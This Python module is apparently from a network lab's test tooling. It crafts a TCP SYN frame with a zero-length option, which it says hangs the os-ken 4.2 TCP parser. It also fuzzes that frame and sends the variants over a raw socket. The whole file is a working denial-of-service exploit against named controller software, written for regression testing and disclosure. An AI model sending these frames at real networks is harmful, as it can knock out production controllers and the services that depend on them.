"""Frames a hostile host can send, and a sender that puts them on a lab host's wire.

``tcp_option_len0`` is the frame that stopped the controller (issue 11): a
TCP segment whose options hold an option of unknown kind with length 0.
os-ken 4.2's TCP parser advances through options by their length field, so it
never leaves that option; see ``docs/security.md`` for the upstream report.
:func:`mutate` makes the fuzzed variants the test suite and ``--fuzz`` send.

    python -m lab.hostile_frames IFACE --src-mac MAC --dst-mac MAC \\
        --src-ip IP --dst-ip IP [--count N] [--interval S] [--fuzz N --seed S]

sends the frame ``count`` times on ``IFACE`` through a raw packet socket (root),
then ``fuzz`` mutated copies of it (fixed ``seed``).
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import sys
import time
from collections.abc import Sequence

from mirror.packets import (
    ETH_IPV4,
    PROTO_TCP,
    build_eth,
    build_ipv4,
    inet_checksum,
    ip_bytes,
)


def tcp_option_len0(src_mac: str, dst_mac: str, src_ip: str, dst_ip: str,
                    sport: int = 40000, dport: int = 80, kind: int = 0x42) -> bytes:
    """Ethernet/IPv4/TCP SYN whose one option is ``kind`` with length 0, padded to 4 bytes."""
    options = bytes([kind, 0, 1, 1])  # the bad option, then two NOPs of padding
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, offset << 4, 0x02, 64240, 0, 0) + options
    pseudo = ip_bytes(src_ip) + ip_bytes(dst_ip) + struct.pack("!BBH", 0, PROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", inet_checksum(pseudo + tcp)) + tcp[18:]
    ip = build_ipv4(src_ip, dst_ip, PROTO_TCP, tcp, ident=1, frag=0x4000)  # DF
    return build_eth(dst_mac, src_mac, ETH_IPV4, ip)


def mutate(rng: random.Random, frame: bytes) -> bytes:
    """One random mutation: flips, set bytes, cut, insert, extend, or a byte past the
    Ethernet header set to 0 or 1 (a length or option field: the killer frame's class)."""
    data = bytearray(frame)
    kind = rng.randrange(6)
    if kind == 0 and data:
        for _ in range(rng.randint(1, 4)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    elif kind == 1 and data:
        for _ in range(rng.randint(1, 3)):
            data[rng.randrange(len(data))] = rng.choice((0, 1, 2, 0x7F, 0x80, 0xFF))
    elif kind == 2:
        del data[rng.randrange(len(data) + 1):]
    elif kind == 3:
        at = rng.randrange(len(data) + 1)
        data[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 8)))
    elif kind == 4:
        data += bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
    elif len(data) > 14:
        data[rng.randrange(14, len(data))] = rng.choice((0, 1))
    return bytes(data)


def send(iface: str, frames: list[bytes], interval: float = 0.0) -> int:
    """Send ``frames`` on ``iface`` in order; returns how many went out.

    A mutated frame can be shorter than Ethernet's minimum: it is padded, as a NIC would.
    """
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((iface, 0))
        for i, frame in enumerate(frames):
            if len(frame) < 14:
                continue  # no Ethernet header: nothing a host can put on the wire
            sock.send(frame.ljust(60, b"\x00"))
            sent += 1
            if interval and i + 1 < len(frames):
                time.sleep(interval)
    return sent


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="send the TCP-option-length-0 frame")
    parser.add_argument("iface")
    parser.add_argument("--src-mac", required=True)
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--src-ip", required=True)
    parser.add_argument("--dst-ip", required=True)
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--interval", type=float, default=0.0)
    parser.add_argument("--fuzz", type=int, default=0, help="then this many mutated copies")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args(argv)
    try:
        frame = tcp_option_len0(args.src_mac, args.dst_mac, args.src_ip, args.dst_ip)
        rng = random.Random(args.seed)
        # Mutations keep the Ethernet addresses: a host's frames come from its own MAC.
        fuzzed = [frame[:12] + mutate(rng, frame)[12:] for _ in range(args.fuzz)]
        sent = send(args.iface, [frame] * args.count + fuzzed, args.interval)
    except (OSError, ValueError) as exc:
        print(f"hostile_frames: error: {exc}", file=sys.stderr)
        return 2
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
